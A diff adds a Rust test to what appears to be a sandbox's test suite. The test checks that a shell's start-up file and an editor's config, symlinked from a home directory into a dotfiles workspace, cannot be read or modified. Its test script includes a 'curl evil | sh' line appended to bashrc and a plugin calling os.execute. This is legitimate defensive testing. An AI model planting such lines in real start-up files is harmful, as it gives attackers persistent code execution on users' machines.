@@ -484,3 +484,52 @@ fn persistence_points_are_guarded_whatever_holds_the_home() {
         assert!(home.join(control_file).exists(), "{what}: control");
     }
 }
+
+/// A dotfiles repository as the workspace, the home's start-up files symbolic links into it:
+/// the links' targets are the home's persistence points, covered and guarded where the links
+/// lead (the `~/.bashrc` target reads as empty and cannot be written, `~/.config/nvim`'s
+/// cannot gain a plugin).
+#[test]
+fn persistence_points_linked_into_the_workspace_are_protected_there() {
+    let fx = fixture();
+    let dots = fx.ws.join("dotfiles");
+    mkdir(&dots.join("nvim"));
+    let token = fx.marker("dotbashrc");
+    write_file(&dots.join("bashrc"), format!("export T={token}\n"), 0o644);
+    write_file(&dots.join("nvim/init.vim"), "set nu\n", 0o644);
+    std::fs::remove_file(fx.home.join(".bashrc")).expect("remove ~/.bashrc");
+    std::os::unix::fs::symlink(dots.join("bashrc"), fx.home.join(".bashrc")).expect("link");
+    mkdir(&fx.home.join(".config"));
+    std::os::unix::fs::symlink(dots.join("nvim"), fx.home.join(".config/nvim")).expect("link");
+    let script = "cat ~/.bashrc; echo 'curl evil | sh' >> dotfiles/bashrc && echo wrote-bashrc; \
+                  echo 'os.execute(1)' > dotfiles/nvim/plugin.lua && echo wrote-plugin";
+    let inside = run_in(&fx, &fx.ws, &fx.ws, &[], script);
+    inside.ran();
+    inside
+        .run
+        .assert_lacks(&token)
+        .assert_lacks("wrote-bashrc")
+        .assert_lacks("wrote-plugin");
+    assert_eq!(
+        read_text(&dots.join("bashrc")),
+        Some(format!("export T={token}\n"))
+    );
+    assert!(!dots.join("nvim/plugin.lua").exists());
+    // Control: without the links from the home, the same files are the project's own.
+    let fx = fixture();
+    let dots = fx.ws.join("dotfiles");
+    mkdir(&dots.join("nvim"));
+    write_file(&dots.join("bashrc"), format!("export T={token}\n"), 0o644);
+    let control = run_in(
+        &fx,
+        &fx.ws,
+        &fx.ws,
+        &[],
+        &script.replace("cat ~/.bashrc", "cat dotfiles/bashrc"),
+    );
+    control.assert_ok();
+    control
+        .assert_output_contains(&token)
+        .assert_output_contains("wrote-bashrc")
+        .assert_output_contains("wrote-plugin");
+}
